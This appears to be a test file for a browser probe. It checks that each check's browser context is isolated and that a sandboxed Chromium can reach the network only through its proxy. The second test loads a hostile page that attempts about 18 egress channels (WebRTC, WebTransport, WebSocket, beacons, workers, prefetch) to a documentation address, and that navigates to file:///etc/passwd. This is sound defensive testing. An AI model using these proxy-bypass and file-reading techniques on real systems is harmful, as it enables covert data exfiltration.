// A browser that runs already: what checks leave in it, and where it gets to from a network of its own.
import { spawn, spawnSync } from 'node:child_process'
import t from 'tap'
import { startClock } from '../../../src/base/clock.ts'
import type { Reading } from '../../../src/domain/checks/reading.ts'
import { createResolver } from '../../../src/net/dns/resolver.ts'
import { createGuard } from '../../../src/net/egress-policy.ts'
import { browser } from '../../../src/probes/browser/browser.ts'
import { openDevtools } from '../../../src/probes/browser/devtools.ts'
import { connectEndpoint } from '../../../src/probes/browser/endpoint.ts'
import { freePort } from '../../support/free-port.ts'
import { makeTarget } from '../../support/make-target.ts'
import { namespaceProblem, openStar } from '../../support/network-namespace.ts'
import { openMachine } from '../../support/open-machine.ts'
import { browserPath, skipWithout } from '../../support/programs.ts'
import { startRunningBrowser } from '../../support/running-browser.ts'
import { startShop } from '../../support/shop.ts'
import { until } from '../../support/until.ts'

const skip = browserPath() === undefined && 'not installed: chromium'
const clock = startClock()
t.after(() => clock.stop())
const resolver = createResolver({ clock })

/** The switches of the documents, against UDP, which goes past a proxy. */
const switches = [
  '--webrtc-ip-handling-policy=disable_non_proxied_udp',
  '--force-webrtc-ip-handling-policy=disable_non_proxied_udp',
  '--disable-quic',
]

function checksWith(place: string) {
  const machine = { ...openMachine, browsers: [place], browsersAtOnce: 2 }
  const guard = createGuard({ targets: 'public', allow: ['127.0.0.1'], machine })
  const { probe } = browser.open({ guard, resolver, clock })
  return {
    guard,
    look(url: string, waitMs: number, signal = new AbortController().signal) {
      const target = makeTarget({ checkType: 'browser', url, timeoutMs: 30_000 })
      const actions = [{ action: 'wait', selector: null, value: String(waitMs) }] as const
      return probe({ ...target, actions }, { clock, signal, keepsAnswer: true })
    },
  }
}

const found = ({ found }: Reading) => (typeof found === 'object' ? found : {})

t.test(
  'each check has a context of its own, which goes with its connection',
  { skip },
  async (t) => {
    const port = await freePort()
    startRunningBrowser(t, { port, switches })
    const place = `http://127.0.0.1:${port}`
    const { guard, look } = checksWith(place)
    const endpoint = await until(() =>
      connectEndpoint(place, { guard, resolver, clock }).catch(() => undefined),
    )
    t.teardown(() => endpoint.destroy())
    const devtools = openDevtools(endpoint.carrier, clock)
    const contexts = async () => {
      const told = await devtools.send('Target.getBrowserContexts', {}, { timeoutMs: 10_000 })
      return (told.browserContextIds as string[]).length
    }
    const shop = await startShop(t, {
      '/': `<script>
      document.title = [document.cookie, localStorage.who].join(' ')
      document.cookie = 'who=ann; max-age=1000'
      localStorage.who = 'ann'
      fetch('/kept').catch(() => {})
      setTimeout(() => { document.title += ' then ' + document.cookie }, 1000)</script>`,
      '/kept': (told, { headers }) => {
        told.setHeader('set-cookie', 'from=server')
        told.end(String(headers.cookie))
      },
    })
    const both = [look(`${shop.url}/`, 1_500), look(`${shop.url}/`, 1_500)]
    await until(async () => (await contexts()) === 2)
    for (const reading of await Promise.all(both)) {
      t.equal(found(reading).title, 'then who=ann; from=server', 'it begins empty')
    }
    await until(async () => (await contexts()) === 0)

    const cut = new AbortController()
    const pending = look(`${shop.url}/`, 10_000, cut.signal)
    await until(async () => (await contexts()) === 1)
    cut.abort()
    await pending
    await until(async () => (await contexts()) === 0)
    const { targetInfos } = await devtools.send('Target.getTargets', {}, { timeoutMs: 10_000 })
    t.notMatch(JSON.stringify(targetInfos), shop.url, 'no page stays open')
  },
)

const skipElsewhere = skip || skipWithout('ip', 'nft') || namespaceProblem()

t.test(
  'a browser in a network of its own has no way out but the proxy of the check',
  { skip: skipElsewhere },
  async (t) => {
    const star = openStar(t, ['browser'])
    const within = star.within('browser')
    const [ip = '', ...words] = within
    const run = (...args: readonly string[]) =>
      spawnSync(ip, [...words, ...args], { encoding: 'utf8' })
    // Answers of its door, what goes to this machine by TCP, and what leaves by any other way.
    const rules = `table inet watch {
    chain out {
      type filter hook output priority 0;
      oifname "lo" accept
      tcp sport 9222 accept
      meta l4proto { ipv6-icmp, igmp } accept
      ip daddr ${star.testAddress} meta l4proto tcp counter accept
      counter
    }
  }`
    const set = spawnSync(ip, [...words, 'nft', '-f', '-'], { input: rules, encoding: 'utf8' })
    t.equal(set.stderr, '')
    const counted = () =>
      [...run('nft', 'list', 'ruleset').stdout.matchAll(/packets (\d+)/g)].map(([, n]) => Number(n))
    // As the images of chromedp start it, which pass port 9222 on to this one.
    startRunningBrowser(t, { port: 9_223, switches, within })
    const passOn = `require('node:net').createServer((near) => {
    const far = require('node:net').connect(9223, '127.0.0.1')
    for (const [one, other] of [[near, far], [far, near]]) one.pipe(other).on('error', () => one.destroy())
  }).listen(9222, '0.0.0.0')`
    const door = spawn(ip, [...words, process.execPath, '-e', passOn], { stdio: 'ignore' })
    t.teardown(() => door.kill('SIGKILL'))
    const shop = await startShop(t, {
      '/': (told) => {
        told.setHeader(
          'report-to',
          `{"group":"x","max_age":1,"endpoints":[{"url":"https://${outside}/"}]}`,
        )
        told.setHeader(
          'content-security-policy-report-only',
          `default-src 'none'; report-uri http://${outside}/`,
        )
        told.setHeader('link', `<https://${outside}/>; rel=preconnect`)
        told.end(hostile)
      },
      '/worker.js': (told) => {
        told.setHeader('content-type', 'text/javascript')
        told.end(worker)
      },
      '/prerendered': '<p>x',
    })
    const { look } = checksWith(`http://${star.addressOf('browser')}:9222`)
    const reading = await until(async () => {
      const seen = await look(`${shop.url}/`, 4_000)
      return seen.result === 'unknown' ? undefined : seen
    })
    t.match(reading, { result: 'good', address: '127.0.0.1' })
    t.match(found(reading).title, 'Tried 18')
    t.ok(shop.asked.includes('GET /worker.js'))
    const [toProxy = 0, elsewhere] = counted()
    t.ok(toProxy > 0, 'the page came through the proxy')
    t.equal(elsewhere, 0, 'no packet left by another way')
  },
)

/** Outside, where nothing is (RFC 5737). */
const outside = '198.51.100.7'
/** Tries the doors that a page has, of which none may lead past the proxy. */
const hostile = `<!doctype html><title>Hostile</title>
  <link rel=preconnect href="https://a.${outside}.example"><link rel=dns-prefetch href="//b.example.net">
  <link rel=preconnect href="http://${outside}"><link rel=prefetch href="http://${outside}/prefetch">
  <link rel=prerender href="http://${outside}/prerender"><link rel=modulepreload href="http://${outside}/module">
  <script type=speculationrules>{"prerender": [{"urls": ["/prerendered", "http://${outside}/"], "eagerness": "immediate"}],
    "prefetch": [{"urls": ["http://${outside}/x"], "requires": ["anonymous-client-ip-when-cross-origin"], "eagerness": "immediate"}]}</script>
  <a id=a href="/" ping="http://${outside}/ping">a</a><iframe src="http://${outside}/frame"></iframe><script>
  const tried = []
  const later = (run, ms) => setTimeout(run, ms)
  const attempt = async (name, run) => {
    try { await Promise.race([run(), new Promise((_, no) => later(no, 2500))]); tried.push(name) } catch { tried.push(name + '!') }
    document.title = 'Tried ' + tried.length
  }
  const peer = (iceServers, more) => async () => {
    const one = new RTCPeerConnection({ iceServers, ...more })
    one.createDataChannel('x')
    await one.setLocalDescription(await one.createOffer())
    await one.setRemoteDescription({ type: 'answer', sdp: one.localDescription.sdp.replace('actpass', 'active') })
    for (const protocol of ['udp', 'tcp']) await one.addIceCandidate({ sdpMid: '0', candidate:
      'candidate:1 1 ' + protocol + ' 2113937151 ${outside} 5000 typ host' + (protocol === 'tcp' ? ' tcptype passive' : '') })
    await new Promise((done) => later(done, 1500))
  }
  attempt('stun', peer([{ urls: ['stun:${outside}:3478', 'stun:c.example.net'] }]))
  attempt('turn', peer([{ urls: ['turn:${outside}:3478?transport=tcp', 'turns:${outside}:5349', 'turn:${outside}'],
    username: 'a', credential: 'a' }], { iceTransportPolicy: 'relay' }))
  attempt('transport', () => new WebTransport('https://${outside}:4433/').ready)
  attempt('transport by name', () => new WebTransport('https://d.example.net/').ready)
  attempt('socket', () => new Promise((_, no) => { new WebSocket('wss://${outside}/').onerror = no }))
  attempt('events', () => new Promise((_, no) => { new EventSource('http://${outside}/events').onerror = no }))
  attempt('fetch', () => fetch('https://e.example.net/', { mode: 'no-cors', keepalive: true, cache: 'no-store' }))
  attempt('beacon', async () => navigator.sendBeacon('http://${outside}/beacon', 'x'))
  attempt('worker', async () => new Worker(URL.createObjectURL(new Blob(['fetch("http://${outside}/worker")']))))
  attempt('shared worker', async () => new SharedWorker('data:text/javascript,fetch("http://${outside}/shared")'))
  attempt('service worker', () => navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready))
  attempt('report', async () => { new Image().src = 'http://${outside}/image' })
  attempt('window', async () => window.open('http://${outside}/window'))
  attempt('file', async () => { location.href = 'file:///etc/passwd' })
  attempt('settings', async () => { location.href = 'chrome://net-internals/#proxy' })
  attempt('link', async () => document.querySelector('#a').click.call(Object.assign(document.querySelector('#a'), { target: 'f' })))
  attempt('media', async () => { new Audio('http://${outside}/sound').play() })
  attempt('style', async () => document.head.append(Object.assign(document.createElement('style'), { textContent:
    '@import "http://${outside}/style"; @font-face { font-family: x; src: url(http://${outside}/font) } body { font-family: x }' })))
  </script><p>Here`
const worker = `oninstall = () => skipWaiting()
  onactivate = (event) => event.waitUntil(clients.claim())
  fetch('http://${outside}/service', { mode: 'no-cors' }).catch(() => {})
  onfetch = (event) => event.respondWith(fetch(event.request))`
